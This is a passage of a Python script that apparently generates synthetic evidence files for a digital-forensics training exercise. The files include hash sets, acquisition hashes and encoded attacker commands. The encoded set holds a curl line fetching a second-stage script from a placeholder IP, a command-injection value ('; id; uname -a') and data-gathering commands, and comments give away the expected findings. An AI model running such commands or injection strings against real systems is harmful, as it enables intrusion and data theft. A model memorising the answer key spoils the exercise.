    digest = {name: hashlib.sha256(data).hexdigest() for name, data in usb.items()}
    near_miss = digest["holiday.jpg"][:-1] + ("0" if digest["holiday.jpg"][-1] != "0" else "1")
    pairs = [digest["tool.exe"][i : i + 2].upper() for i in range(0, 64, 2)]
    lines = [
        "# Reference hash set CERT-EX-2024-117 (placeholder files from an earlier intrusion elsewhere)",
        "# Format: SHA-256, optionally followed by a label",
        "",
        digest["invoice_INV-2291.pdf"].upper() + "\r",  # upper case, Windows line ending
        "   " + digest["helper.dll"] + "   ",  # surrounding spaces
        "0x" + digest["payload.log"],  # 0x prefix
        ":".join(pairs) + ",dropper",  # colon-separated byte pairs, then a label
        digest["readme.txt"] + " *readme.txt",  # sha256sum binary-mode format
        near_miss + "  near-duplicate",  # control: one hex digit differs -> no match
        hashlib.md5(usb["backup.zip"]).hexdigest()
        + "  md5 of an archive",  # control: MD5, not a SHA-256 match
        "not-a-hash  broken line",  # malformed: skipped
        "\t",
        "",
    ]
    return "\n".join(lines) + "\n"


def _acquisition_hashes(usb: dict[str, bytes]) -> str:
    """Hashes written by the imaging tool at seizure (upper case). Since then budget_2025.xlsx was altered and
    deleted_draft.docx is gone: the two integrity failures to find."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["file_name", "sha256"])
    for name, data in usb.items():
        if name == "budget_2025.xlsx":
            data = data + b"as seized"
        writer.writerow([name, hashlib.sha256(data).hexdigest().upper()])
    writer.writerow(["deleted_draft.docx", hashlib.sha256(b"draft as seized").hexdigest().upper()])
    return out.getvalue()


# --- encoded command lines recovered from web1 and the portal -------------------------------------------------------
def _encoded_commands() -> str:
    powershell = "Get-ChildItem \\\\FILE01\\Finance -Recurse | Out-File C:\\Users\\Public\\list.txt"
    shell = "curl -s http://203.0.113.99/stage2.sh -o /tmp/stage2.sh"  # 52 bytes: base64 needs padding
    url_safe = "tar czf /tmp/x.tgz ~/notes?.txt >> /tmp/done"
    rows = [
        (
            "ps_encoded",
            "powershell.exe -NoProfile -EncodedCommand "
            + base64.b64encode(powershell.encode("utf-16-le")).decode("ascii"),
        ),
        ("bash_history", base64.b64encode(shell.encode()).decode("ascii").rstrip("=")),  # padding stripped
        ("cron_job", base64.urlsafe_b64encode(url_safe.encode()).decode("ascii")),  # URL-safe alphabet
        ("portal_query", "192.0.2.1%3B%20id%3B%20uname%20-a"),  # percent-encoding
    ]
    return "label\ttext\n" + "".join(f"{label}\t{text}\n" for label, text in rows)


def generate(out_dir: Path) -> None:
    """Write every case file of the module into ``out_dir`` and its SHA-256 manifest."""
    rng = random.Random(SEED)
    out_dir.mkdir(parents=True, exist_ok=True)
    (out_dir / "auth.log").write_bytes(_auth_log(rng))
    (out_dir / "access.log").write_bytes(_access_log(rng))
    (out_dir / "windows_logons.csv").write_text(_windows_logons(), encoding="utf-8")
    (out_dir / "key_events.json").write_text(json.dumps(KEY_EVENTS, indent=1) + "\n", encoding="utf-8")
    mail_dir = out_dir / "mail"
    mail_dir.mkdir(exist_ok=True)
    for name, data in _emails().items():
        (mail_dir / name).write_bytes(data)
    usb = _usb_files()
    usb_dir = out_dir / "seized_usb"
    usb_dir.mkdir(exist_ok=True)
    for name, data in usb.items():
        (usb_dir / name).write_bytes(data)
    (out_dir / "known_hashes.txt").write_bytes(_known_hashes(usb).encode("utf-8"))
    (out_dir / "acquisition_hashes.csv").write_text(_acquisition_hashes(usb), encoding="utf-8")
    (out_dir / "encoded_commands.tsv").write_text(_encoded_commands(), encoding="utf-8")
    write_manifest(out_dir)


if __name__ == "__main__":
    generate(data_dir("cybercrime"))
